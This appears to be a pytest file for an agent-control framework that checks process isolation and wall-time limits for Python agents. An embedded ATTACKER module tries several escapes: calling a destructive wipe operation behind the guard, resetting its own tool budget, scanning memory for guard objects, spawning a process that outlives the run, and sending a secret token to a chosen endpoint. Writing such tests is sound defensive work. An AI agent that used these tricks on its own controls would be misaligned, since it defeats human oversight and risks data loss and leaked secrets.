"""Python agents in a process of their own (issue 8, item 4), and the wall-time watchdog for
python agents in both modes (item 8). The attacker's tests: what reached a destructive
operation or reset a budget in-process is impossible from the isolated mode."""

from __future__ import annotations

import json
import sys
import threading
from typing import Any

import pytest
from rt_helpers import Ws, charter, ws_fixture  # noqa: F401 - ws_fixture
from sandbox_helpers import MODES, gone, procs_with, token

from agentctl.errors import ConfigError

ATTACKER = '''\
"""Tries what broke the guard in-process, then calls as told."""
import gc
import subprocess
import sys
import threading
import time


def attack(task, ctx):
    report = {}
    try:  # reach the transport behind the guard: a destructive call, no check, no event
        ref = ctx._run.guard.resolve("sys.wipe")
        ctx._run.session.transport(ref).call("wipe", {})
        report["transport"] = "reached"
    except Exception as exc:
        report["transport"] = type(exc).__name__
    try:  # reset the budget
        ctx._run.guard.used.tool_calls = 0
        report["budget"] = "reset"
    except Exception as exc:
        report["budget"] = type(exc).__name__
    kinds = {type(o).__name__ for o in gc.get_objects()}
    report["found"] = sorted(kinds & {"Guard", "Session", "AgentRun", "LedgerWriter", "Ledger"})
    for op in task.get("calls", []):
        try:
            ctx.call(op, {})
            report.setdefault("calls", []).append("ok")
        except ctx.Denied as exc:
            report.setdefault("calls", []).append(exc.rule)
            if isinstance(exc, ctx.Stopped):  # a stop is reported and the agent goes on
                report["stopped"] = True
    return report


def sleeper(task, ctx):
    if task.get("token"):
        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", task["token"]])
    time.sleep(600)
    return {"woke": True}


RELEASE = threading.Event()  # set by the test: the in-process waiter waits for it


def waiter(task, ctx):
    RELEASE.wait(600)
    try:
        ctx.call("sys.read", {"after": "the stop"})
        return {"late_call": "ok"}
    except ctx.Stopped as exc:
        return {"late_call": exc.rule}


def chatty(task, ctx):
    print("a print() must not break the protocol")
    ctx.log("hello from", ctx.charter)
    return {"trace": ctx.trace_id, "asked": ctx.ask("charter/helper", {"steps": []})}


def exfiltrate(task, ctx):
    try:
        msgs = [{"role": "user", "content": "hi"}]
        ctx.model(msgs, base_url="http://127.0.0.1:9", api_key_env="SOME_TOKEN")
    except ctx.ToolError as exc:
        return {"refused": exc.message}
    return {"refused": False}
'''

WIPE = """\
apiVersion: agentctl/v1
kind: Connector
metadata: {name: danger, owner: role/ops}
spec:
  transport: {python: "rt_tools:sys"}
  operations:
    wipe: {scope: danger.wipe, effect: destructive}
"""


def attrs(event: dict[str, Any]) -> dict[str, Any]:
    out: dict[str, Any] = json.loads(event["attrs"])
    return out


def setup(ws: Ws, *docs: str) -> None:
    ws.lib("rt_attack.py", ATTACKER).add(WIPE, *docs)


@pytest.mark.parametrize("environ", MODES)
def test_isolated_agent_cannot_bypass_the_guard(ws: Ws, environ: dict[str, str]) -> None:
    setup(
        ws,
        charter(
            "a",
            runtime='python: "rt_attack:attack"',
            tools="[sys.read, sys.write, danger.wipe]",
            budget="{per_run: {tool_calls: 1}}",
        ),
    )
    res = ws.run("a", {"calls": ["sys.write", "sys.write"]}, environ=environ)
    out = res.output
    assert out["transport"] == "AttributeError" and out["budget"] == "AttributeError"
    assert out["found"] == []
    assert out["calls"] == ["ok", "budget"] and out["stopped"]
    assert res.status == "stopped"
    assert ws.calls("wipe") == 0 and ws.calls("write") == 1
    assert attrs(ws.events("run_start")[0])["isolation"] == "process"
    kinds = [e["kind"] for e in ws.events()]  # the write is journaled: intent, then call
    assert kinds == ["run_start", "tool_intent", "tool_call", "denial", "run_end"]


def test_in_process_is_what_the_attack_broke(ws: Ws) -> None:
    """The contrast (documented): a read-only charter may choose in-process, where
    `ctx._run` is reachable; it holds no write or destructive operation to reach."""
    setup(ws, charter("r", runtime='python: "rt_attack:attack"', tools="[sys.read]"))
    res = ws.run("r", {})
    assert attrs(ws.events("run_start")[0])["isolation"] == "in-process"
    assert res.output["budget"] == "reset"


def test_write_charters_run_isolated_by_default(ws: Ws) -> None:
    setup(
        ws,
        charter("w", runtime='python: "rt_agents:script"', tools="[sys.write]"),
        charter("r", runtime='python: "rt_agents:script"', tools="[sys.read]"),
        charter("d", runtime='python: "rt_agents:script"', tools="[danger.wipe]"),
        charter("p", runtime='python: "rt_agents:script", isolation: process'),
    )
    for name in ("w", "r", "d", "p"):
        assert ws.run(name, {}).status == "ok"
    modes = [attrs(e)["isolation"] for e in ws.events("run_start")]
    assert modes == ["process", "in-process", "process", "process"]


def test_in_process_refused_for_a_charter_that_can_write(ws: Ws) -> None:
    rt = 'python: "rt_agents:script", isolation: in-process'
    setup(ws, charter("w", runtime=rt, tools="[sys.read, sys.write]"))
    with pytest.raises(ConfigError) as exc:
        ws.run("w", {})
    assert exc.value.message == (
        "charter/w: cannot load its runtime: charter/w can write or destroy: it may not run "
        "in-process"
    )
    assert ws.events() == []


def test_isolated_agent_behaves_as_in_process(ws: Ws) -> None:
    """The same API: logs, print() on stderr, asks, exceptions and their messages."""
    contract = """\
apiVersion: agentctl/v1
kind: Contract
metadata: {name: c, owner: role/ops}
spec:
  consumer: charter/x
  provider: charter/helper
  scopes: [sys.read]
"""
    setup(
        ws,
        charter("x", runtime='python: "rt_attack:chatty"', tools="[sys.write]"),
        charter("helper", tools="[sys.read]"),
        charter("bug", runtime='python: "rt_agents:broken"', tools="[sys.write]"),
        charter("list", runtime='python: "rt_agents:not_a_dict"', tools="[sys.write]"),
        charter("gone", runtime='python: "rt_nowhere:agent"', tools="[sys.write]"),
        contract,
    )
    logs: list[str] = []
    res = ws.run("x", {}, log=logs.append)
    assert res.status == "ok", res.error
    assert res.output == {"trace": res.trace_id, "asked": {"results": []}}
    assert logs == ["[x] hello from x"]
    bug = ws.run("bug", {})
    assert (bug.status, bug.error) == (
        "error",
        "charter/bug raised RuntimeError: the agent has a bug",
    )
    lst = ws.run("list", {})
    assert lst.error == "charter/list returned list, expected an object"
    with pytest.raises(ConfigError) as exc:  # found missing before the run, as in-process
        ws.run("gone", {})
    assert exc.value.message == (
        "charter/gone: cannot load its runtime: cannot import 'rt_nowhere': no such module"
    )
    assert not [e for e in ws.events() if e["principal"] == "gone"]


def test_an_import_error_in_the_child_fails_the_run(ws: Ws) -> None:
    ws.lib("rt_broken.py", "raise ImportError('a dependency is missing')\n")
    setup(ws, charter("b", runtime='python: "rt_broken:agent"', tools="[sys.write]"))
    res = ws.run("b", {})
    assert (res.status, res.hint) == ("error", "check spec.runtime.python and python_path")
    assert res.error == "charter/b: cannot load 'rt_broken:agent': a dependency is missing"


def test_uncaught_denial_is_a_denied_run(ws: Ws) -> None:
    setup(ws, charter("w", tools="[sys.write]"))
    res = ws.run("w", {"steps": [["call", "sys.read", {}]], "catch": False})
    assert res.status == "denied"
    assert res.error == "charter/w is not granted scope 'sys.read' (needed by sys.read)"


def test_isolated_agent_cannot_choose_the_model_endpoint(ws: Ws) -> None:
    """In-process, ctx.model(base_url=…, api_key_env=…) sends any variable's value to any
    host; over the protocol only temperature and max_tokens are accepted."""
    setup(ws, charter("x", runtime='python: "rt_attack:exfiltrate"', tools="[sys.write]"))
    res = ws.run("x", {}, environ={"SOME_TOKEN": "s3cret"})
    assert res.output == {
        "refused": "model options ['api_key_env', 'base_url'] are not accepted from an agent "
        "process"
    }
    assert ws.events("model_call") == []


def test_in_process_agent_cannot_choose_the_model_endpoint_either(ws: Ws) -> None:
    """The same allow-list holds in-process: the endpoint and the key's variable are the
    charter's, so a read-only agent cannot mail a secret to a host of its choosing."""
    rt = 'python: "rt_attack:exfiltrate", isolation: in-process'
    setup(ws, charter("x", runtime=rt, tools="[sys.read]"))
    res = ws.run("x", {}, environ={"SOME_TOKEN": "s3cret"})
    assert res.output == {
        "refused": "model options ['api_key_env', 'base_url'] are not accepted from an agent"
    }
    assert ws.events("model_call") == []


@pytest.mark.parametrize("environ", MODES)
def test_wall_time_stops_an_isolated_python_agent(ws: Ws, environ: dict[str, str]) -> None:
    tok = token()
    setup(
        ws,
        charter(
            "s",
            runtime='python: "rt_attack:sleeper"',
            tools="[sys.write]",
            budget="{per_run: {wall_time: 1s}}",
        ),
    )
    res = ws.run("s", {"token": tok}, environ=environ)
    assert res.status == "stopped" and res.output is None
    assert res.error == "charter/s ran past its wall time of 1s: stopped"
    (denial,) = ws.events("denial")
    assert attrs(denial)["limit"] == "wall_time" and denial["status"] == "stopped"
    assert ws.events("run_end")[0]["status"] == "stopped"
    assert gone(tok), procs_with(tok)


def test_wall_time_stops_an_in_process_agent(ws: Ws) -> None:
    """The run is stopped when the limit passes; the thread cannot be killed, but its result
    is dropped and a call it makes afterwards is refused without effect or event."""
    setup(
        ws,
        charter(
            "s",
            runtime='python: "rt_attack:waiter"',
            tools="[sys.read]",
            budget="{per_run: {wall_time: 1s}}",
        ),
    )
    try:
        res = ws.run("s", {})
    finally:
        sys.modules["rt_attack"].RELEASE.set()
    assert res.status == "stopped" and res.output is None
    assert res.error == "charter/s ran past its wall time of 1s: stopped"
    assert attrs(ws.events("run_start")[0])["isolation"] == "in-process"
    for thread in [t for t in threading.enumerate() if t.name == "agent s"]:
        thread.join(60)  # its late call was refused
    assert ws.calls("read") == 0
    assert [e["kind"] for e in ws.events()] == ["run_start", "denial", "run_end"]


def test_a_connector_value_json_cannot_carry_reaches_the_child(ws: Ws) -> None:
    """In-process, a python connector may return any object; over the protocol a value
    JSON cannot carry goes as its text instead of crashing the run."""
    ws.lib("rt_dated.py", "import datetime\n\ndef conn(op, payload):\n"
           "    return {'at': datetime.date(2026, 11, 25)}\n")  # fmt: skip
    dated = """\
apiVersion: agentctl/v1
kind: Connector
metadata: {name: dated, owner: role/ops}
spec:
  transport: {python: "rt_dated:conn"}
  operations:
    put: {scope: dated.write, effect: write}
"""
    setup(ws, dated, charter("w", tools="[dated.write]"))
    res = ws.run("w", {"steps": [["call", "dated.put", {}]]})
    assert res.status == "ok", res.error
    assert res.output == {"results": [{"ok": {"at": "2026-11-25"}}]}
